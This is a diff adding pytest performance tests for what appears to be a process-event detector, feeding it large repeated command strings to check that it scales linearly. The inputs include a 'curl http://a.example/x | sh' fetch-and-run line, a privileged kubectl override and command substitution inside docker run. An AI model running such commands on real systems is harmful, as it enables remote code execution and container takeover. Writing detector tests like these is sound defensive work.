@@ -356,3 +356,29 @@ def test_the_measure_sees_what_is_quadratic(monkeypatch: pytest.MonkeyPatch) -> 
 
     assert growth(make, 20_000) > MOST
     assert doubling(lambda text: test(text[: len(text) // 16]), "", "xbuild") > PER_DOUBLING
+
+
+# What steps of a chain are read from, by readers that scoring does not ask.
+OBSERVED: dict[str, Callable[[int], str]] = {
+    "exec": lambda n: f"docker exec c sh -c '{'curl http://a.example/x | sh; ' * (n // 29)}'",
+    "save": lambda n: "docker save a -o " + " > ".join("a" * (n // 4)),
+    "cluster": lambda n: "kubectl run x " + "--image=a " * (n // 10),
+    "cluster-rights": lambda n: (
+        'kubectl run x --image=a --overrides="{' + '"privileged": ' * (n // 14)
+    ),
+    "library": lambda n: 'python3 -c "docker ' + "containers.run('" * (n // 16),
+    "library-node": lambda n: "node -e 'docker " + "createContainer({Image: " * (n // 24),
+    "id-in-a-file": lambda n: "sh -c 'docker run `" + "$(cat /" * (n // 7),
+    "copied": lambda n: "docker cp " + "c:" * (n // 2) + " d:/x",
+}
+
+
+@pytest.mark.parametrize("name", OBSERVED)
+def test_what_steps_are_read_from(name: str) -> None:
+    program = OBSERVED[name](0).split()[0]
+
+    def make(size: int) -> Callable[[], object]:
+        event = {"FileName": program, "ProcessCommandLine": OBSERVED[name](size)}
+        return lambda: EXPERT.observe(event, kind="process")
+
+    assert growth(make, 2_000) < MOST
